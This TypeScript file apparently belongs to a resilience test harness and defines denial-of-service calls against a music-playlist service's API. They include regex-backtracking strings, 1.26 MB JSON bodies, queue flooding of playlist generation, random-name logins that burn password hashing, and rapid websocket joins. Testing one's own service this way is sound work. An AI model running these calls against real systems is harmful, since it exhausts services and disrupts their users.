import { randomBytes, randomUUID } from "node:crypto";
import { WebSocket } from "ws";
import { type Attack, largeRoom, status } from "./attack.ts";
import type { Stranger } from "./calls.ts";

const post = (stranger: Stranger, path: string, body: object | string) =>
  status(stranger.call(path, { method: "POST", body }));

/** Texts on which patterns with backtracking take minutes, of 390 KB. */
const longTexts = [
  `#EXTINF:${"1".repeat(390_000)}`,
  `#EXTM3U\n#EXTINF:${" ".repeat(390_000)}x`,
  `${" - ".repeat(130_000)}`,
  `${"(feat ".repeat(60_000)}`,
];
/** 1.26 MB of values, as the list of a call and as a body that is no object. */
const manyValues = [`{"list":[${"{},".repeat(420_000)}{}]}`, `[${"{},".repeat(420_000)}{}]`];
const prompts = [
  "sad jazz of the 90s without saxophone, 40 songs",
  "the longest party, every decade, loud then slow",
];

let step = 0;
const next = <T>(items: readonly T[]): T | undefined => items[step++ % items.length];

/** A room, and a listener in it who is of another network and counts what is announced. */
async function audience(stranger: Stranger) {
  const room_name = `Crowd ${randomUUID().slice(0, 8)}`;
  await stranger.call("/api/add-to-playlist", {
    method: "POST",
    body: {
      room_name,
      track: {
        song_id: "youtube_rY0WxgSXdEE",
        title: "Song",
        artist: "Band",
        song_url: "https://www.youtube.com/watch?v=rY0WxgSXdEE",
      },
    },
  });
  return room_name;
}

/** Joins a room by a socket and leaves it at once; the status of the upgrade. */
function joinOnce(stranger: Stranger, room_name: unknown): Promise<number> {
  const socket = new WebSocket(stranger.address("/sync"), { localAddress: stranger.from });
  return new Promise((resolve) => {
    const end = (found: number) => {
      resolve(found);
      socket.terminate();
    };
    socket.once("unexpected-response", (_request, response) => end(response.statusCode ?? 0));
    socket.once("error", () => end(0));
    socket.once("open", () => {
      const data = { room_name, is_host: false, username: "Guest" };
      socket.send(JSON.stringify({ event: "join_room", data }));
    });
    socket.once("message", () => end(101));
  });
}

/** Calls whose cost is far above that of sending them. */
export const costlyCalls = {
  patterns: {
    does: "sends lists on which patterns backtrack",
    width: 4,
    step: (stranger) => post(stranger, "/api/match-list", { list: next(longTexts) }),
  },
  bodies: {
    does: "sends bodies of 1.26 MB with 420,000 values",
    width: 24,
    step: (stranger) => post(stranger, "/api/match-list", next(manyValues) ?? ""),
  },
  engine: {
    does: "fills the engine's queue",
    width: 48,
    step: (stranger) =>
      Math.random() < 0.5
        ? post(stranger, "/api/generate-playlist", {
            prompt: next(prompts),
            song_count: 40,
            niche_level: 50,
          })
        : status(
            stranger.call(
              `/api/search-music?query=${encodeURIComponent(next(prompts) ?? "")}&search_type=prompt`,
            ),
          ),
  },
  hashes: {
    does: "logs in under unknown names",
    width: 48,
    step: (stranger) =>
      post(stranger, "/api/auth/login", {
        username: `u${randomBytes(6).toString("hex")}`,
        password: randomUUID(),
      }),
  },
  edits: {
    does: "edits a large room, whose list old pages are answered",
    width: 16,
    prepare: largeRoom,
    step: (stranger, room_name) =>
      post(stranger, "/api/pin-track", {
        room_name,
        track_id: `youtube_video_${String(step++ % 120).padStart(5, "0")}`,
      }),
  },
  joins: {
    does: "joins a room and leaves it, many times a second",
    width: 60,
    prepare: audience,
    step: joinOnce,
  },
} satisfies Record<string, Attack>;
